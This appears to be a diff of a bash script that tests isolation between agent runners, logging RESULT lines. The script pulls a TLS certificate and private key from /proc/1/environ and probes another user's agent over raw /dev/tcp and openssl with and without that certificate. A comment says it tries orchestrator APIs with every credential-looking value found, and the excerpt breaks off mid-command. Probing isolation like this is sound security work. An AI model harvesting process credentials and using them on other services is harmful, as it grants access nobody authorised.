@@ -2,7 +2,7 @@
 # orchestrator's APIs with every credential-looking value this runner can find.
 res() { printf 'RESULT|%s|%s|%s\n' "$1" "$2" "$(printf '%s' "$3" | tr '\n|' ' /' | cut -c1-500)"; }
 tcp() { timeout 4 bash -c "exec 3<>/dev/tcp/$1/$2" 2>&1 | head -1 | sed 's/.*: //'; echo "exit=${PIPESTATUS[0]}"; }
-env1() { tr '\0' '\n' < /proc/1/environ | sed -n "s/^$1=//p"; }
+env1() { perl -0 -ne 'chomp; print $1 if /^\Q'"$1"'\E=(.*)/s' /proc/1/environ; }
 
 # 1. bob's agent, plain TCP (and HTTP) to its real address
 t=$(tcp "$BOB_IP" 8443 | tr '\n' ' ')
@@ -12,7 +12,8 @@ res bob-tcp $v "bash /dev/tcp to bob's agent $BOB_IP:8443: $t"
 # 2. bob's agent over TLS: without a client certificate, and with this runner's own certificate and key
 dir=$(mktemp -d)
 env1 CCX_TLS_CERT > "$dir/own.crt"; env1 CCX_TLS_KEY > "$dir/own.key"
-tls() { timeout 6 openssl s_client -brief -connect "$1" "${@:2}" </dev/null 2>&1 | grep -m1 -iE 'error|alert|refused|unreachable|timed out|CONNECTION ESTABLISHED|verify' | cut -c1-100; }
+tls() { timeout 6 openssl s_client -brief -connect "$1" "${@:2}" </dev/null 2>&1 | tr '\n' ' ' \
+  | grep -oiE '(error|alert|refused|unreachable|timed out|CONNECTION ESTABLISHED|unable|could not)[^ ]* [^ ]* [^ ]* [^ ]*' | head -2 | tr '\n' ' '; }
 a=$(tls "$BOB_IP:8443"); b=$(tls "$BOB_IP:8443" -cert "$dir/own.crt" -key "$dir/own.key")
 [ -z "$a" ] && a="no TLS session (timed out)"; [ -z "$b" ] && b="no TLS session (timed out)"
 n=$(timeout 6 node -e '
